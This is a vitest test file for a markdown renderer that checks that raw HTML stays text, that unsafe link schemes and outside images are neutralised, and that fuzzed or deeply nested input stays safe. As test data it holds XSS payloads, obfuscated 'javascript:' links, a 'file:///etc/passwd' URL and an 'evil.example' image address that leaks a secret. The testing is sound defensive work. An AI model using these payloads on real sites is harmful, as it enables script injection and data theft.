import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type DocumentNode, renderNodes } from '#bots/markdown/render-nodes.ts';

const tags = new Set(
  'p h1 h2 h3 h4 h5 h6 strong em del code pre blockquote ul ol li table thead tbody tr th td a br hr'.split(' '),
);

function walk(nodes: readonly DocumentNode[], see: (node: Exclude<DocumentNode, string>) => void): void {
  for (const node of nodes) {
    if (typeof node === 'string') continue;
    see(node);
    walk(node.c ?? [], see);
  }
}

function textOf(nodes: readonly DocumentNode[]): string {
  return nodes.map((node) => (typeof node === 'string' ? node : textOf(node.c ?? []))).join('');
}

describe('Markdown as a tree', () => {
  it('says what GitHub would show', () => {
    expect(renderNodes('# A *b*\n\n1. x\n2. [y](https://e.com)\n\n- [x] done\n\n|a|\n|-:|\n|`c`|')).toEqual([
      { t: 'h1', c: ['A ', { t: 'em', c: ['b'] }] },
      {
        t: 'ol',
        c: [
          { t: 'li', c: ['x'] },
          { t: 'li', c: [{ t: 'a', href: 'https://e.com/', c: ['y'] }] },
        ],
      },
      { t: 'ul', c: [{ t: 'li', c: ['done'], checked: true }] },
      {
        t: 'table',
        c: [
          { t: 'thead', c: [{ t: 'tr', c: [{ t: 'th', c: ['a'], align: 'right' }] }] },
          { t: 'tbody', c: [{ t: 'tr', c: [{ t: 'td', c: [{ t: 'code', c: ['c'] }], align: 'right' }] }] },
        ],
      },
    ]);
  });

  it('HTML is text', () => {
    const hostile = '<script>alert(1)</script>\n\nx <img src=x onerror=alert(1)> y<br>z <!-- gone -->';
    const nodes = renderNodes(hostile);
    expect(textOf(nodes)).toContain('<script>alert(1)</script>');
    expect(textOf(nodes)).toContain('<img src=x onerror=alert(1)>');
    expect(textOf(nodes)).not.toContain('gone');
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    'file:///etc/passwd',
    '//evil.example/x',
    '/logout',
    'tg://user?id=1',
    'java&#x73;cript:alert(1)',
  ])('%s is no link', (href) => {
    for (const source of [`[x](${href})`, `![x](${href})`, `<${href}>`, `[x][1]\n\n[1]: ${href}`]) {
      walk(renderNodes(source), (node) => expect(node.t).not.toBe('a'));
    }
  });

  it('a picture from elsewhere is a link, so that nothing is fetched unasked', () => {
    expect(renderNodes('![secret](https://evil.example/?q=secret)')).toEqual([
      { t: 'p', c: [{ t: 'a', href: 'https://evil.example/?q=secret', c: ['secret'] }] },
    ]);
  });

  it('whatever the source, only known elements and safe addresses come out', () => {
    const pieces = [
      '<b onclick=x>',
      '](javascript:1)',
      '[',
      '![',
      '```',
      '> ',
      '- ',
      '|a|b|\n|-|-|\n',
      '**',
      '\n',
      'é',
      '&lt;',
      '<http://a>',
    ];
    fc.assert(
      fc.property(
        fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary', maxLength: 8 }))),
        (parts) => {
          walk(renderNodes(parts.join('')), (node) => {
            expect(tags.has(node.t)).toBe(true);
            expect(
              Object.keys(node).every((key) => ['t', 'c', 'href', 'lang', 'start', 'align', 'checked'].includes(key)),
            ).toBe(true);
            if (node.href !== undefined) expect(node.href).toMatch(/^(?:https?|mailto):/);
          });
        },
      ),
      { numRuns: 300 },
    );
  });

  it('deep nesting ends', () => {
    expect(() => renderNodes('> '.repeat(5_000) + 'x')).not.toThrow();
    expect(() => renderNodes(`${'['.repeat(2_000)}x${'](http://a)'.repeat(2_000)}`)).not.toThrow();
  });
});
